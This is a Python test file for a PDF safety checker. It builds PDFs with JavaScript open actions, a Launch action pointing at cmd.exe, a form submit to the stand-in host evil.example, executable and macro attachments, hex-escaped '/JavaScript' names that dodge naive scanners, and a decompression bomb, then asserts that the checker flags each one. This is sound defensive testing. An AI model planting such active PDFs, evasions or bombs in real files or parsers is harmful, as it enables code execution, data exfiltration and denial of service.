"""PDFs that do something, hide something, or unpack to more than a process may hold: each is really built."""

import sys
import zlib
from io import BytesIO

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assessments.file_checks import pdf as pdf_check
from assessments.file_checks.pdf import Opened, examined, opened
from tests.factories.files import docx, package, pdf, xlsx


def script():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch():
    return pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def submit():
    return pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")


def built(change, **saved) -> bytes:
    document, stream = pikepdf.open(BytesIO(pdf())), BytesIO()
    change(document)
    document.save(stream, **saved)
    return stream.getvalue()


def opening(action):
    return lambda document: document.Root.__setitem__("/OpenAction", document.make_indirect(action()))


def in_a_page(action):
    def change(document):
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action())
        document.pages[0].obj.Annots = pikepdf.Array([link])

    return change


def named_scripts(document):
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["a", script()]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def form_of_xfa(document):
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.Stream(document, b"<xdp/>"))


def rich_media(document):
    document.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])]
    )


@pytest.mark.parametrize(
    "change",
    [
        *(opening(script), opening(launch), opening(submit), in_a_page(script), in_a_page(launch)),
        *(named_scripts, form_of_xfa, rich_media),
    ],
)
@pytest.mark.parametrize("is_packed", [False, True])
def test_what_runs_or_sends_or_opens_something_is_found(change, is_packed):
    modes = pikepdf.ObjectStreamMode
    content = built(change, object_stream_mode=modes.generate if is_packed else modes.disable)
    assert examined(BytesIO(content)) == Opened(1, "active")


def test_a_name_written_with_escapes_is_found_all_the_same():
    content = built(opening(script), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert content.count(b"/JavaScript") == 1
    escaped = content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert examined(BytesIO(escaped)) == Opened(1, "active")


def test_links_and_the_fields_of_forms_are_no_commands():
    def change(document):
        in_a_page(lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://tinh.example/"))(document)
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]))

    assert examined(BytesIO(built(change))) == Opened(1)


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("hoa-don.xml", b"<hoadon/>", ""),
        ("so-lieu.csv", b"a;b\n", ""),
        ("a.exe", b"MZ\x00", "attached"),
        ("a.docx", b"PK\x03\x04", "attached"),
        ("ket-qua.xlsx", xlsx(), ""),
        ("a.xlsx", docx(), "attached"),
        ("a.xlsx", xlsx(xl__vbaProject_dot_bin=b"x"), "attached"),
        ("a.xlsx", xlsx(xl__externalLinks__a_dot_xml=b"x"), "attached"),
        ("a.xlsx", xlsx(xl__big_dot_bin=bytes(31_000_000)), "attached"),
        ("a.xlsx", package({"[Content_Types].xml": "macroEnabled", "xl/workbook.xml": "x"}), "attached"),
        ("a.xlsx", b"PK\x03\x04", "broken"),
        ("a.xml", b"MZ\x00\x00", "attached"),
        ("a.xml.exe", b"x", "attached"),
        ("a.html", b"<script>", "attached"),
    ],
)
def test_only_data_may_be_attached(name, content, problem):
    def change(document):
        document.attachments[name] = content

    assert examined(BytesIO(built(change))) == Opened(0 if problem == "broken" else 1, problem)


def test_an_attached_file_without_a_name_is_not_taken_for_data():
    def change(document):
        document.attachments["a.xml"] = b"x"
        for item in document.objects:
            if isinstance(item, pikepdf.Dictionary) and "/EF" in item:
                del item["/F"], item["/UF"]

    assert examined(BytesIO(built(change))) == Opened(1, "attached")


def test_a_file_that_anybody_may_open_but_not_change_is_no_locked_one():
    lock = pikepdf.Encryption(owner="chu", user="", R=6)
    assert examined(BytesIO(pdf(encryption=lock))) == Opened(1)
    assert examined(BytesIO(pdf(encryption=pikepdf.Encryption(owner="chu", user="x", R=6)))) == Opened(0, "locked")


def bomb(size: int) -> bytes:
    """Small, with a page tree in an object stream that unpacks to so many bytes of nested arrays."""
    packed = zlib.compress(b"1 0 [" + b"[]" * (size // 2) + b"]", 9)
    objects = [
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
        b"<</Type/Catalog/Pages 1 0 R>>",
    ]
    content, places = b"%PDF-1.5\n", []
    for number, found in enumerate(objects, 2):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, found)
    rows = b"\0\0\0\0\0\0" + b"\2" + (2).to_bytes(4, "big") + b"\0"
    rows += b"".join(b"\1" + place.to_bytes(4, "big") + b"\0" for place in (*places, len(content)))
    facts = b"<</Type/XRef/Size 5/W[1 4 1]/Root 3 0 R/Length %d>>stream\n%s\nendstream" % (len(rows), rows)
    return content + b"4 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (facts, len(content))


@pytest.mark.slow
def test_a_bomb_ends_the_process_that_opens_it_and_nothing_else(monkeypatch):
    monkeypatch.setattr(pdf_check, "MAX_SECONDS", 2)
    content = bomb(60_000_000)
    assert len(content) < 100_000
    assert opened(BytesIO(content)).problem in {"heavy", "broken"}


def test_the_process_of_its_own_finds_what_this_one_finds():
    given = BytesIO(built(opening(script)))
    assert opened(given) == examined(given) == Opened(1, "active")
    given.seek(0)
    assert given.read(5) == b"%PDF-"


def test_the_same_bytes_are_read_once_and_what_was_not_read_to_its_end_is_read_again(monkeypatch):
    monkeypatch.setattr(pdf_check, "_known", {})
    monkeypatch.setattr(pdf_check, "MAX_KNOWN", 2)
    one, two, three = (BytesIO(pdf(pages)) for pages in (1, 2, 3))
    with monkeypatch.context() as broken:
        broken.setattr(sys, "executable", "/bin/false")
        assert opened(one) == Opened(0, "heavy")
    assert [opened(one), opened(two)] == [Opened(1), Opened(2)]
    with monkeypatch.context() as broken:
        broken.setattr(sys, "executable", "/bin/false")
        assert [opened(one), opened(two), opened(three)] == [Opened(1), Opened(2), Opened(0, "heavy")]
    assert [opened(three), len(pdf_check._known)] == [Opened(3), 1]


def test_a_file_of_too_many_objects_is_heavy(monkeypatch):
    monkeypatch.setattr(pdf_check, "MAX_OBJECTS", 5)
    assert examined(BytesIO(pdf(20))) == Opened(20, "heavy")


def test_objects_nested_too_deep_are_broken():
    def change(document):
        nested = pikepdf.Array([])
        for _level in range(pdf_check.DEEPEST + 2):
            nested = pikepdf.Array([nested])
        document.Root.Deep = nested

    assert examined(BytesIO(built(change))) == Opened(0, "broken")


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7\n", pdf(3)[:200]])
def test_what_is_no_pdf_is_broken(content):
    assert examined(BytesIO(content)) == Opened(0, "broken")


WHOLE = built(in_a_page(script), object_stream_mode=pikepdf.ObjectStreamMode.disable)


@given(st.lists(st.tuples(st.integers(0, len(WHOLE) - 1), st.integers(0, 255)), max_size=8), st.integers(1, len(WHOLE)))
@settings(max_examples=150, deadline=None)
def test_whatever_was_done_to_a_pdf_it_is_opened_or_has_a_problem(changes, length):
    content = bytearray(WHOLE)
    for place, byte in changes:
        content[place] = byte
    found = examined(BytesIO(content[:length]))
    assert found.problem in {"", "broken", "locked", "active", "attached", "heavy"}
